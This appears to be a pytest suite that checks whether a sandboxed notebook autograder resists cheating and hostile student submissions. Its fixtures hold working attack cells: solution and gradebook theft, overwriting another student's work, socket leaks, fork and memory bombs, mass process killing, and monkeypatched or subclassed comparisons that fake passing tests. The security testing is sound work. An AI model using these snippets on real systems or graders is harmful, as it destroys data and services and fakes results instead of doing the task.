"""Grading that student code cannot game: an adversarial class, graded by `make grade`'s script.

One submission per class of attack (issue 7), each with the same honest part as the `honest`
student (entropy and mutual_information right, variational_bound wrong). Every attacker must earn
no point the honest student does not, the `victim` (a full solution of part 1) must keep every
point, the hidden tests must not reach any output or feedback, the host must see no network
traffic, and the report must show the sandbox's denials. The same class is graded again as an
unprivileged user when the suite runs as root (root hides denials an ordinary account meets), and
the honest students are graded again without the sandbox (`--unsafe`): same grades.
"""

from __future__ import annotations

import csv
import os
import pwd
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
from collections import defaultdict
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from homework_support import ROOT, SOURCE, grade_id, hidden_test_lines, make_course, submit

pytest.importorskip("nbgrader", reason="the homework needs nbgrader: pip install -r requirements.txt")
pytestmark = pytest.mark.skipif(not SOURCE.exists(), reason="solutions/ is not in this copy (student bundle)")


@pytest.fixture(autouse=True, scope="module")
def _needs_bubblewrap():
    if shutil.which("bwrap") is None:
        why = "bubblewrap is not installed (sudo apt-get install bubblewrap)"
        if os.environ.get("CI"):
            pytest.fail(f"the sandbox tests must run in CI: {why}")
        pytest.skip(why)

PART1 = ("test_entropy", "test_mutual_information", "test_variational_bound")
HONEST = {"1_mi_bound": {"entropy", "mutual_information"}}
WRONG_BOUND = "def variational_bound(joint, q):\n    return 0.0\n"
LIMITS = {"INFOGAN_CELL_TIMEOUT": "20", "INFOGAN_LIMIT_MEMORY_BYTES": str(3 * 2**30),
          "INFOGAN_LIMIT_OUTPUT_BYTES": str(2**20)}

# what each attacker runs in a cell of its own, right after the setup cell (PORT: the host's listener)
ATTACKS = {
    "reads_files": r'''
import glob, pathlib
course = pathlib.Path.cwd().parents[2]            # autograded/<student>/infogan_homework
for pattern in ["solutions/**/*.ipynb", "source/**/*.ipynb", "submitted/*/*/*.ipynb",
                "autograded/*/*/*.ipynb", ".grading/seed", "gradebook.db", "nbgrader_config.py"]:
    for path in glob.glob(str(course / pattern), recursive=True):
        print(path, open(path, errors="replace").read())
for path in glob.glob("/home/*/*") + glob.glob("/root/*"):
    print(path)
print(open(course / "solutions" / "infogan_homework" / "1_mi_bound.ipynb").read())
''',
    "writes_files": r'''
import pathlib, sqlite3
course = pathlib.Path.cwd().parents[2]
for target in [course / "submitted" / "victim" / "infogan_homework" / "1_mi_bound.ipynb",
               course / "autograded" / "victim" / "infogan_homework" / "1_mi_bound.ipynb",
               course / "solutions" / "infogan_homework" / "1_mi_bound.ipynb",
               pathlib.Path.cwd() / "1_mi_bound.ipynb"]:
    try:
        target.write_text("{}")
        print("WROTE", target)
    except OSError as err:
        print("refused", target, err)
db = sqlite3.connect(str(course / "gradebook.db"))
db.execute("UPDATE grade SET extra_credit = 100")
db.commit()
''',
    "network": r'''
import socket
for target in [("127.0.0.1", PORT), ("localhost", PORT), ("10.0.2.2", 80), ("pypi.org", 443)]:
    try:
        socket.create_connection(target, timeout=3).sendall(b"leak")
        print("CONNECTED", target)
    except OSError as err:
        print("refused", target, err)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", PORT))
except OSError as err:
    print("udp refused", err)
socket.create_connection(("127.0.0.1", PORT), timeout=3)
''',
    "fork_bomb": r'''
import os, time
born = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
        born += 1
except OSError as err:
    print("fork refused after", born, "children")
    raise
''',
    "memory_bomb": r'''
hoard = []
while True:
    hoard.append(bytearray(2**28))
''',
    "floods_output": r'''
while True:
    print("x" * 10000)
''',
    "kills_grader": r'''
import os, signal
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as err:
            print("cannot kill", pid, err)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as err:
    print("kill(-1):", err)
os.kill(os.getpid(), signal.SIGKILL)
''',
    "patches_helpers": r'''
import builtins, math, numpy, numpy.testing, torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: numpy.True_
numpy.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0.0
''',
    "changes_later_cells": r'''
ip = get_ipython()
def passes(lines):
    if any("assert" in line for line in lines):
        return ["print('variational_bound: visible tests passed')\n"]
    return lines
ip.input_transformers_post.append(passes)
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
''',
    "forges_replies": r'''
import os, pathlib
agent = pathlib.Path(os.environ["HOME"]) / "agent.py"
forged = agent.read_text() + """
def serve(name, request, reply, namespace):
    with open(reply, "wb") as f:
        f.write(b'JSON\\n{"args": null, "result": 1.0, "grads": null, "error": null}')
"""
agent.unlink()
agent.write_text(forged)
''',
}

# attackers whose weapon is the answer itself (the variational_bound answer cell)
ANSWERS = {
    "overrides_comparison": '''
class AlwaysRight(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return AlwaysRight(0.0)
    def __rsub__(self, other): return AlwaysRight(0.0)
    def __abs__(self): return AlwaysRight(0.0)
    def __float__(self): return 0.0
    __hash__ = float.__hash__

def variational_bound(joint, q):
    return AlwaysRight(123.0)
''',
}

# what the report must say about each (the sandbox's denials and the limits hit)
EVENTS = {"reads_files": "sandbox denial", "writes_files": "sandbox denial", "network": "network denied",
          "fork_bomb": "process limit", "memory_bomb": "memory limit", "floods_output": "output limit",
          "kills_grader": "kernel died"}

# part 2: a tensor subclass that claims to be close to everything
TENSOR_ATTACK = '''
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.isclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def code_nll(c, mean, log_sigma):
    return torch.zeros_like(mean).as_subclass(Agreeable)
'''


def _editor(code: str | None = None, answer: str = WRONG_BOUND, port: int = 0):
    def edit(name, nb):
        if name != "1_mi_bound":
            return
        for cell in nb.cells:
            if grade_id(cell) == "variational_bound":
                cell.source = answer
        if code:
            nb.cells.insert(2, new_code_cell(code.replace("PORT", str(port))))
    return edit


def _tensor_editor(name, nb):
    for cell in nb.cells:
        if grade_id(cell) == "code_nll":
            cell.source = TENSOR_ATTACK


def build_class(course: Path, port: int) -> Path:
    only1 = ("2_third_code",)
    submit(course, "victim", {"1_mi_bound": "all"}, drop=only1)
    submit(course, "honest", HONEST, edit=_editor(), drop=only1)
    for name, code in ATTACKS.items():
        submit(course, name, HONEST, edit=_editor(code, port=port), drop=only1)
    for name, answer in ANSWERS.items():
        submit(course, name, HONEST, edit=_editor(answer=answer), drop=only1)
    submit(course, "tensor_subclass", {}, edit=_tensor_editor, drop=("1_mi_bound",))
    return course


def grade(course: Path, *args, user: pwd.struct_passwd | None = None) -> str:
    env = dict(os.environ, **LIMITS)
    cmd = [sys.executable, "-m", "grading.grade", "--course", str(course), "--jobs", "2", *args]
    if user is not None:
        env["HOME"] = str(course)
        cmd = ["setpriv", f"--reuid={user.pw_uid}", f"--regid={user.pw_gid}", "--clear-groups", *cmd]
    out = subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, text=True, timeout=900)
    assert out.returncode == 0, out.stdout[-3000:] + out.stderr[-3000:]
    return out.stdout


def scores(course: Path) -> dict[str, dict[str, float]]:
    table = defaultdict(dict)
    with open(course / "grades-by-cell.csv") as f:
        for row in csv.DictReader(f):
            if row["cell"].startswith("test_"):
                table[row["student"]][row["cell"]] = float(row["score"] or 0)
    return table


class Listener:
    """A TCP and a UDP socket on the host's loopback: the sandbox must not reach them."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp.setblocking(False)
        self.udp.setblocking(False)

    def received(self) -> list[str]:
        got = []
        try:
            self.tcp.accept()
            got.append("a TCP connection")
        except BlockingIOError:
            pass
        try:
            got.append(f"a UDP datagram {self.udp.recv(100)!r}")
        except BlockingIOError:
            pass
        return got


def _check_class(course: Path, listener: Listener) -> None:
    table = {student: {cell: cells[cell] for cell in PART1 if cell in cells}
             for student, cells in scores(course).items() if student != "tensor_subclass"}
    table["tensor_subclass"] = {cell: v for cell, v in scores(course)["tensor_subclass"].items() if cell not in PART1}
    report = (course / "grading-report.md").read_text()
    assert table["victim"] == {"test_entropy": 2, "test_mutual_information": 3, "test_variational_bound": 5}, report
    assert table["honest"]["test_entropy"] == 2 and table["honest"]["test_variational_bound"] == 0, report
    for name in [*ATTACKS, *ANSWERS]:
        for cell, score in table[name].items():
            assert score <= table["honest"][cell], f"{name} earned {score} on {cell}: {report}"
    assert sum(table["tensor_subclass"].values()) == 0, table["tensor_subclass"]
    with sqlite3.connect(course / "gradebook.db") as db:
        assert db.execute("SELECT count(*) FROM grade WHERE extra_credit > 0").fetchone()[0] == 0
    assert listener.received() == []
    for name, kind in EVENTS.items():
        assert f"**{name}**: 1_mi_bound cell 3: {kind}" in report, f"{name}: {kind} missing from\n{report}"
    assert (course / "submitted" / "victim" / "infogan_homework" / "1_mi_bound.ipynb").stat().st_size > 1000
    # no hidden test line in any output of any graded notebook, nor in the feedback
    texts = [p.read_text() for p in (course / "feedback").rglob("*.html")]
    for path in (course / "autograded").rglob("*.ipynb"):
        for cell in nbformat.read(path, as_version=4).cells:
            texts += [str(o) for o in cell.get("outputs", [])]
    everything = "\n".join(texts)
    leaked = [line for line in hidden_test_lines() if line in everything]
    assert not leaked, leaked[:3]


@pytest.fixture(scope="module")
def listener():
    return Listener()


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory, listener):
    course = build_class(make_course(tmp_path_factory.mktemp("attacked")), listener.port)
    log = grade(course, "--feedback")
    return course, log


def test_no_attack_earns_a_point_or_changes_another_grade(graded_class, listener):
    course, _ = graded_class
    _check_class(course, listener)


def test_grading_goes_on_and_leaves_no_sandbox_process_behind(graded_class):
    course, log = graded_class
    assert log.count(": graded (") == 2 + len(ATTACKS) + len(ANSWERS) + 1, log
    if os.geteuid() == 0:
        left = subprocess.run(["pgrep", "-u", ",".join(str(61000 + i) for i in range(4))],
                              capture_output=True, text=True).stdout.split()
        assert left == [], f"sandbox processes still running: {left}"


def test_honest_grades_are_the_same_without_the_sandbox(graded_class, tmp_path):
    course, _ = graded_class
    plain = make_course(tmp_path / "plain")
    submit(plain, "victim", {"1_mi_bound": "all"}, drop=("2_third_code",))
    submit(plain, "honest", HONEST, edit=_editor(), drop=("2_third_code",))
    shutil.copytree(course / ".grading", plain / ".grading", ignore=shutil.ignore_patterns("gradebooks"))
    log = grade(plain, "--unsafe")
    assert "UNSAFE" in (plain / "grading-report.md").read_text() and "graded (" in log
    boxed, unboxed = scores(course), scores(plain)
    assert unboxed["victim"] == boxed["victim"] and unboxed["honest"] == boxed["honest"]


def _unprivileged() -> pwd.struct_passwd | None:
    try:
        user = pwd.getpwnam(os.environ.get("INFOGAN_TEST_USER", "nobody"))
    except KeyError:
        return None
    probe = subprocess.run(["setpriv", f"--reuid={user.pw_uid}", f"--regid={user.pw_gid}", "--clear-groups",
                            sys.executable, "-c", "import grading.sandbox, nbgrader"],
                           cwd=ROOT, capture_output=True, text=True)
    return user if probe.returncode == 0 else None


@pytest.mark.skipif(os.geteuid() != 0, reason="already running as an unprivileged user")
def test_the_same_class_graded_as_an_unprivileged_user(listener):
    user = _unprivileged()
    if user is None:
        why = "no unprivileged user can run this Python (.ci/run makes `nobody` able to)"
        if os.environ.get("CI"):
            pytest.fail(why)
        pytest.skip(why)
    folder = Path(tempfile.mkdtemp(prefix="infogan-unprivileged-"))
    try:
        course = build_class(make_course(folder / "course"), listener.port)
        for path in [folder, *folder.rglob("*")]:
            os.lchown(path, user.pw_uid, user.pw_gid)
        os.chmod(folder, 0o755)
        grade(course, "--feedback", user=user)
        _check_class(course, listener)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_grading_refuses_when_the_sandbox_cannot_start(tmp_path):
    course = make_course(tmp_path / "course")
    submit(course, "victim", {"1_mi_bound": "all"}, drop=("2_third_code",))
    env = dict(os.environ, PATH=str(tmp_path))          # no bwrap on the PATH
    out = subprocess.run([sys.executable, "-m", "grading.grade", "--course", str(course)], cwd=ROOT,
                         env=env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 2, out.stdout + out.stderr
    assert "refusing to grade" in out.stderr and "apt-get install bubblewrap" in out.stderr
    assert "--unsafe" in out.stderr and not (course / "autograded").exists()
